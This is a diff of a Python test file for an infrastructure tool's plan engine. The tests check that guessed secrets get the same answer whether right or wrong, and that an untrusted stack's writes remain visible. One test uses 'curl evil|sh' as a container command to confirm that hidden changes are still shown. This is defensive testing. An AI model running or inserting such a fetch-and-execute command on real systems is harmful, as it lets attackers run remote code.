@@ -1,25 +1,36 @@
 """Plans of a stranger's stack: which hosts are asked, what is compared without any key, and what is shown of what a host tells."""
 
 import asyncio
+import json
+import re
 from collections.abc import Iterator
 from dataclasses import replace
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from unittest.mock import ANY
 
 import pytest
+from rich.console import Console
 from tests.programs import Item, ListProgram
 from tests.unit.engine.conftest import Bench
 
+from virtwright.cli.json_lines import event_to_json
+from virtwright.cli.render.plan import render_plan
+from virtwright.cli.render.problems import render_problem
+from virtwright.engine import openness
 from virtwright.engine.api import Engine
-from virtwright.engine.events import Warned
+from virtwright.engine.events import RunFinished, Warned
 from virtwright.engine.plan import Plan
+from virtwright.engine.plan_file import Source, save_plan
 from virtwright.engine.services import RunServices
 from virtwright.engine.state.store import StateStore
-from virtwright.errors import InputError, RefusedError
+from virtwright.errors import InputError, RefusedError, VirtwrightError
 from virtwright.providers.diff import Change
 from virtwright.schemas.host import Host
-from virtwright.schemas.values import Sealed, Secret
-from virtwright.stacks.base import StackName
+from virtwright.schemas.origins import CONTENT, OUTSIDE
+from virtwright.schemas.values import UNKNOWN, Sealed, Secret, Unknown
+from virtwright.stacks.base import Goal, StackName
 from virtwright.stacks.keys import Keys
 from virtwright.trust import Untrusted
 
@@ -77,15 +88,168 @@ def test_the_same_ciphertext_is_no_change_and_another_one_is(stranger: Stranger)
     assert [*stranger.changes(web(Secret(Sealed("another"), "another")))] == ["environment.PW"]
 
 
-def test_what_has_no_origin_is_said_to_be_uncompared(stranger: Stranger) -> None:
-    assert stranger.plan(web(Secret(Sealed()))).changes == ()
-    assert stranger.warnings == ["containers.web: not compared, as no secret is decrypted: environment.PW"]
+@pytest.mark.parametrize("now", [Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed()), UNKNOWN, Secret("own", CONTENT)])
+def test_what_had_no_origin_is_told_as_uncompared(bench: Bench, stranger: Stranger, now: Any) -> None:
+    """An older version applied it, or a program made it."""
+    assert bench.apply(web(Secret("changed"))).succeeded
+    plan = stranger.plan(web(now))
+    (step,) = [step for step in plan.steps if step.urn.name == "web"]
+    assert (step.op.value, step.result, [each.field for each in step.uncompared]) == (
+        "same",
+        "uncompared",
+        ["environment.PW"],
+    )
+    assert not plan.settled and plan.changes == ()
+    assert "uncompared" in {
+        name for event in stranger.events if isinstance(event, RunFinished) for name in event.summary
+    }
 
 
-def test_a_guess_is_answered_as_any_other(stranger: Stranger) -> None:
-    right, wrong = (stranger.changes(web(guess))["environment.PW"] for guess in (PASSWORD, "wrong"))
-    assert isinstance(right.goal, Secret)
-    assert (right.prior, right.impact) == (wrong.prior, wrong.impact)
+@pytest.mark.parametrize("now", [Secret(Sealed()), UNKNOWN, "EVIL", Secret("EVIL"), Secret("EVIL", CONTENT)])
+def test_what_had_an_origin_and_has_none_has_changed(stranger: Stranger, now: Any) -> None:
+    change = stranger.changes(web(now))["environment.PW"]
+    assert change.prior == Sealed(ORIGIN)
+    assert isinstance(change.goal, Unknown) or change.goal in ("EVIL", Secret(ANY))
+
+
+def test_a_trigger_is_told_as_uncompared(bench: Bench, stranger: Stranger) -> None:
+    triggered = {"options": {"replacement_trigger": "first"}}
+    assert bench.apply(web(Secret(PASSWORD, ORIGIN), **triggered)).succeeded
+    assert bench.apply(web(Secret(PASSWORD, ORIGIN), **triggered)).succeeded
+    plan = stranger.plan(web(Secret(Sealed(ORIGIN), ORIGIN), options={"replacement_trigger": "second"}))
+    assert [(each.field, each.goal) for step in plan.steps for each in step.uncompared] == [
+        ("replacement_trigger", "second")
+    ]
+
+
+def guessing(guess: str) -> Iterator[tuple[str, ListProgram]]:
+    """Programs that hold the guess against all that the host and the state have, wherever a text can stand."""
+    sealed = Secret(Sealed(ORIGIN), ORIGIN)
+    yield "the secret's own place", web(guess)
+    yield "a secret of its own there", web(Secret(guess))
+    yield "a file of its own there", web(Secret(guess, CONTENT))
+    yield "a file of others there", web(Secret(guess, OUTSIDE))
+    for place in ("MODE", "OWN", "NEW", guess):
+        for text in (guess, f"aa{guess}bb", Secret(guess)):
+            environment = {"PW": sealed, "MODE": "open", place: text}
+            yield f"variable {place}", web(sealed, environment=environment)
+    more: dict[str, Any] = {
+        "description": guess,
+        "labels": {guess: guess},
+        "command": [guess],
+        "files": [{"path": f"/{guess}", "content": f"first\n{guess}\nlast"}],
+        "working_dir": f"/{guess}",
+        "hostname": guess,
+    }
+    for name, value in more.items():
+        yield name, web(sealed, **{name: value})
+        yield f"{name}, which is ignored", web(sealed, **{name: value}, options={"ignore_changes": (name,)})
+    yield "ignored", web(guess, options={"ignore_changes": ("environment",)})
+    yield "hidden", web(guess, options={"hide_changes": ("environment",)})
+    yield "a new name", ListProgram(*web(sealed).items, Item("Container", guess, {"image": "host"}))
+    yield "only a new name", ListProgram(Item("Container", guess, {"image": "host"}, was=("web",)))
+    yield "a trigger", web(sealed, options={"replacement_trigger": guess})
+    yield (
+        "what the state does not know",
+        ListProgram(*web(sealed).items, Item("Container", "stray", {"image": "host", "environment": {"PW": guess}})),
+    )
+
+
+class Saying(ListProgram):
+    """It says its guess when its resources were compared, in all ways in which programs say something."""
+
+    def __init__(self, guess: str, items: tuple[Item, ...]) -> None:
+        super().__init__(*items)
+        self.guess = guess
+
+    async def serve(self, register: Any, services: RunServices) -> Any:
+        await self.run(register)
+        for severity in ("debug", "info", "warning", "error"):
+            services.log(severity, f"is it {self.guess}?")
+        await services.put_outputs(self.urn("web", "Container"), {"own": Secret(self.guess)})
+        bad = Goal(
+            self.urn("bad", "Container"), "Container", {"image": self.guess, self.guess: 1}, self.host_urn("one")
+        )
+        await register(bad)
+        return {"right": self.guess, self.guess: Secret(self.guess)}
+
+    async def end(self) -> None:
+        """Nothing to let go of."""
+
+
+def answered(bench: Bench, stranger: Stranger, program: ListProgram, file: Path) -> str:
+    """All that a plan says, in each form of it."""
+    stranger.events.clear()
+    try:
+        plan = stranger.plan(program)
+        file.unlink(missing_ok=True)
+        save_plan(plan, Source(), file, None)
+        console = Console(width=200)
+        said = [
+            "\n".join(line.plain for line in render_plan(console, plan, verbose=True)),
+            file.read_text(),
+            str(plan.settled),
+        ]
+    except VirtwrightError as error:
+        said = [render_problem(problem).plain for problem in error.problems]
+        said = [stranger.engine.scrub(text) for text in said]
+    for event in stranger.events:
+        said.append(json.dumps(event_to_json(event, datetime(2026, 1, 1, tzinfo=UTC))))
+    text = "\n".join(sorted(said))
+    return re.sub(r'"run": "\w+"|"seconds": [0-9.e-]+|#[0-9a-f]{8}|[0-9a-f]{64}', "-", text)
+
+
+@pytest.mark.parametrize("secret", [PASSWORD, BY_HAND, "a-stray-secret-0815", "a-line-of-it-4711"])
+def test_a_guess_is_answered_as_any_other(bench: Bench, stranger: Stranger, tmp_path: Path, secret: str) -> None:
+    """Of what the state has encrypted, somebody typed on the host, the state does not know, or is a line of a secret."""
+    assert bench.apply(
+        web(Secret(PASSWORD, ORIGIN), files=[{"path": "/b", "content": Secret("a\na-line-of-it-4711\nb")}])
+    ).succeeded
+    item = bench.world.find("web")
+    environment = {**item.inputs["environment"], "MODE": BY_HAND, "OWN": BY_HAND}
+    bench.world.put(
+        "fake://one", replace(item, inputs={**item.inputs, "environment": environment, "description": BY_HAND})
+    )
+    stray = replace(
+        item, id="stray", stamped="stray", stamp=replace(item.stamp, urn=item.stamp.urn.replace("web", "stray"))
+    )
+    bench.world.put("fake://one", replace(stray, inputs={**item.inputs, "environment": {"PW": "a-stray-secret-0815"}}))
+    wrong = secret[:-1] + chr(ord(secret[-1]) + 1)  # in the same order among names
+    for (name, right), (_, other) in zip(guessing(secret), guessing(wrong), strict=True):
+        for one, two in ((right, other), (Saying(secret, right.items), Saying(wrong, other.items))):
+            said = answered(bench, stranger, one, tmp_path / "plan").replace(secret, "GUESS")
+            assert said == answered(bench, stranger, two, tmp_path / "plan").replace(wrong, "GUESS"), name
+
+
+def test_what_a_stranger_writes_is_shown_whatever_it_says_of_that(stranger: Stranger) -> None:
+    hidden = {"options": {"hide_changes": ("environment", "command")}}
+    changes = stranger.changes(web(Secret("curl evil|sh"), command=["sh", "-c", Secret("curl evil|sh")], **hidden))
+    assert changes["environment.PW"].goal == "curl evil|sh"
+    assert changes["command"].goal == ["sh", "-c", "curl evil|sh"]
+
+
+@pytest.mark.parametrize(
+    ("before", "now", "changed", "unsure"),
+    [
+        ("10.0.0.1", Secret(Sealed(ORIGIN), ORIGIN), True, False),
+        (None, Secret(Sealed(ORIGIN), ORIGIN), True, False),
+        (None, UNKNOWN, True, False),
+        (Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed(ORIGIN), ORIGIN), False, False),
+        (Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed("other"), "other"), True, False),
+        (Secret(Sealed(ORIGIN), ORIGIN), "a guess", True, False),
+        (Secret(Sealed(ORIGIN), ORIGIN), Secret("a guess"), True, False),
+        (Secret(Sealed()), Secret(Sealed(ORIGIN), ORIGIN), False, True),
+        (Secret(Sealed()), "a guess", True, False),
+        ("10.0.0.1", UNKNOWN, False, True),
+        ({"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, {"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, False, False),
+        ({"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, {"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 2}, True, False),
+        (Secret(Sealed(ORIGIN), ORIGIN), None, True, False),
+    ],
+)
+def test_outputs_are_told_that_change_or_may(before: Any, now: Any, changed: bool, unsure: bool) -> None:
+    known = {} if before is None else {"x": before}
+    changes, doubts = openness.outputs(known, {"x": now})
+    assert (bool(changes), bool(doubts)) == (changed, unsure)
 
 
 def test_what_only_the_host_tells_is_not_shown(bench: Bench, stranger: Stranger) -> None:
